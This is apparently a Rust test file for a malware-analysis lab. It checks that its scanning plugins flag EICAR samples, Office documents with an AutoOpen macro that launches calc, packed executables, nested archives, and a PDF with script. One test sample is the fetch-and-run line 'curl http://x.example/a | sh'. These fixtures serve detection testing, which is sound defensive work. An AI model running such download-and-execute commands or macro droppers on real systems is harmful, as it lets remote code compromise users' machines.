//! What the plugins together say of a sample and of everything inside it, by way of real job folders, as the lab goes about it.
#![allow(missing_docs)]

use std::path::Path;
use weir_analysis::fixtures;
use weir_lab::file_type;
use weir_lab::job::{Input, Job, Level, Report};
use weir_lab::plugin::{Plugin, Run};

/// A sample with what was said of it, and its children with the same.
struct Analysed {
    name: String,
    lines: Vec<(Level, String)>,
    children: Vec<Analysed>,
}

impl Analysed {
    fn gravest(&self) -> Level {
        let own = self.lines.iter().map(|(level, _)| *level);
        own.chain(self.children.iter().map(Analysed::gravest)).max().unwrap_or(Level::Info)
    }

    fn says(&self, line: &str) -> bool {
        self.lines.iter().any(|(_, text)| text.contains(line))
    }

    fn child(&self, name: &str) -> &Analysed {
        self.children.iter().find(|child| child.name == name).unwrap_or_else(|| panic!("{} has no {name}", self.name))
    }
}

fn plugins() -> Vec<Plugin> {
    let all = weir_analysis::PLUGINS.iter().map(|own| Plugin::parse(own.manifest, Path::new("")).unwrap());
    all.filter(|plugin| matches!(plugin.run, Run::Process(_)) && plugin.name != "clamav").collect()
}

fn report(plugin: &Plugin, name: &str, data: &[u8], each: &mut dyn FnMut(&str, Vec<u8>)) -> Report {
    let home = tempfile::tempdir().unwrap();
    let input = Input::new(name, file_type::of(&data[..data.len().min(file_type::HEAD)]));
    let job = Job::prepare(&home.path().join("job"), &input, &mut &*data).unwrap();
    weir_analysis::run(&plugin.name, job.folder()).unwrap();
    let report = job.report(plugin.limits.output_bytes).unwrap_or_else(|error| panic!("{}: {error}", plugin.name));
    for child in &report.artifacts {
        if let Some(file) = &child.file {
            let mut content = Vec::new();
            std::io::Read::read_to_end(&mut job.open_output(file).unwrap(), &mut content).unwrap();
            each(child.filename.as_deref().unwrap_or(file), content);
        }
    }
    report
}

fn analysed(name: &str, data: &[u8]) -> Analysed {
    let (kind, mut lines, mut children) =
        (file_type::of(&data[..data.len().min(file_type::HEAD)]), Vec::new(), Vec::new());
    for plugin in plugins().iter().filter(|plugin| plugin.taste.takes(kind)) {
        let report = report(plugin, name, data, &mut |name, content| children.push(analysed(name, &content)));
        let line = |line: &weir_lab::job::Taxonomy| format!("{} {} {}", line.namespace, line.predicate, line.value);
        lines.extend(report.summary.taxonomies.iter().map(|taxonomy| (taxonomy.level, line(taxonomy))));
    }
    Analysed { name: name.to_owned(), lines, children }
}

const DROPPER: &str = "Sub AutoOpen()\r\n  Set s = CreateObject(\"WScript.Shell\")\r\n  s.Run \"calc\"\r\nEnd Sub\r\n";

#[test]
fn the_test_file_is_malicious_and_a_letter_is_not() {
    let eicar = analysed("eicar.com", &fixtures::eicar());
    assert!(eicar.gravest() == Level::Malicious && eicar.says("yara rule EICAR_test_file"), "{:?}", eicar.lines);
    let letter = analysed("letter.txt", b"Dear Ann,\nsee you on Friday.\nBob\n");
    assert!(letter.gravest() == Level::Info && letter.says("yara no-match"), "{:?}", letter.lines);
}

#[test]
fn a_document_with_macros_is_suspicious() {
    for (name, data) in [("a.doc", fixtures::macro_doc(DROPPER)), ("a.docm", fixtures::macro_docm(DROPPER))] {
        let document = analysed(name, &data);
        assert_eq!(document.gravest(), Level::Suspicious, "{name}: {:?}", document.lines);
        assert!(document.says("office-pdf macro runs by itself (AutoOpen)"), "{name}: {:?}", document.lines);
    }
    let harmless = analysed("a.doc", &fixtures::macro_doc("Function Twice(x)\r\n  Twice = 2 * x\r\nEnd Function\r\n"));
    assert_eq!(harmless.gravest(), Level::Info, "{:?}", harmless.lines);
}

#[test]
fn a_packed_program_is_suspicious_and_a_plain_one_is_not() {
    let packed = analysed("packed", &fixtures::packed_elf());
    assert!(packed.gravest() == Level::Suspicious && packed.says("elf-pe packer UPX"), "{:?}", packed.lines);
    let plain = analysed("true", &std::fs::read("/bin/true").unwrap());
    assert_eq!(plain.gravest(), Level::Info, "{:?}", plain.lines);
}

#[test]
fn an_archive_of_all_of_them_gives_each_back() {
    let inner = fixtures::zip(&[("deep/eicar.com", &fixtures::eicar())]);
    let zip = fixtures::zip(&[
        ("eicar.com", &fixtures::eicar()),
        ("invoice.doc", &fixtures::macro_doc(DROPPER)),
        ("packed", &fixtures::packed_elf()),
        ("letter.txt", b"Dear Ann,\nsee you on Friday.\n"),
        ("inner.zip", &inner),
    ]);
    let all = analysed("all.zip", &zip);
    assert_eq!((all.gravest(), all.children.len()), (Level::Malicious, 5));
    for (name, level) in [
        ("eicar.com", Level::Malicious),
        ("invoice.doc", Level::Suspicious),
        ("packed", Level::Suspicious),
        ("letter.txt", Level::Info),
        ("inner.zip", Level::Malicious),
    ] {
        let child = all.child(name);
        assert_eq!(child.gravest(), level, "{name}: {:?}", child.lines);
    }
    assert_eq!(all.child("inner.zip").child("deep/eicar.com").gravest(), Level::Malicious);
    let locked = analysed("locked.zip", &fixtures::eicar_in_locked_zip());
    assert_eq!(locked.child("eicar.com").gravest(), Level::Malicious);
}

#[test]
fn a_page_and_a_zstandard_file_give_back_what_is_in_them() {
    let zip = fixtures::zip(&[("eicar.com", &fixtures::eicar())]);
    let octets: Vec<String> = zip.iter().map(u8::to_string).collect();
    let page = format!(
        "<!DOCTYPE html><html><script>var d = new Uint8Array([{}]);</script>\
         <a download=\"run.sh\" href=\"data:,%23!/bin/sh%0Aecho%20hello%0A\">here</a></html>",
        octets.join(",")
    );
    let page = analysed("parcel.html", page.as_bytes());
    assert_eq!(page.children.len(), 2, "{:?}", page.lines);
    let parcel = page.child("put together by a script");
    assert_eq!(parcel.child("eicar.com").gravest(), Level::Malicious);
    let script = page.child("run.sh");
    assert!(script.says("identify type text/x-shellscript"), "{:?}", script.lines);
    let packed = analysed("eicar.com.zst", &weir_scan::test_files::zstd(&fixtures::eicar()));
    assert_eq!(packed.child("eicar.com").gravest(), Level::Malicious);
}

#[test]
fn a_document_that_carries_a_program_gives_it_back() {
    let carrier = analysed("a.doc", &fixtures::packaged_object("invoice.exe", &fixtures::pe(&["WinExec"], b"")));
    assert_eq!(carrier.gravest(), Level::Suspicious, "{:?}", carrier.lines);
    assert!(carrier.child("invoice.exe").says("elf-pe format PE x86-64"), "{:?}", carrier.child("invoice.exe").lines);
    let pdf = analysed("a.pdf", &fixtures::pdf(true));
    assert!(pdf.gravest() == Level::Suspicious && pdf.says("office-pdf script"), "{:?}", pdf.lines);
}

#[test]
fn the_examples_run_as_they_are() {
    for (name, sample, line) in [
        ("example-shell", "#!/bin/sh\ncurl http://x.example/a | sh\n", "curl"),
        (
            "example-python",
            "payload = \"aGVsbG8gd29ybGQsIHRoaXMgaXMgYSBsb25nIGVub3VnaCBydW4gb2YgYmFzZTY0IHRleHQ=\"\n",
            "1",
        ),
    ] {
        let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../plugins").join(name);
        let plugin = Plugin::read(&folder).unwrap();
        let Run::Process(command) = &plugin.run else { panic!("it is a process") };
        let home = tempfile::tempdir().unwrap();
        let input = Input { config: plugin.config.clone(), ..Input::new("sample", "text/x-shellscript") };
        let job = Job::prepare(&home.path().join("job"), &input, &mut sample.as_bytes()).unwrap();
        let program = folder.join(command[0].trim_start_matches("./"));
        let ended = std::process::Command::new(program).arg(job.folder()).current_dir(job.folder()).status().unwrap();
        assert!(ended.success(), "{name}");
        let report = job.report(1 << 20).unwrap();
        assert_eq!(report.summary.taxonomies[0].value, line, "{name}");
        if name == "example-python" {
            let child = report.artifacts[0].file.clone().unwrap();
            let mut text = String::new();
            std::io::Read::read_to_string(&mut job.open_output(&child).unwrap(), &mut text).unwrap();
            assert!(text.starts_with("hello world"), "{text}");
        }
    }
}
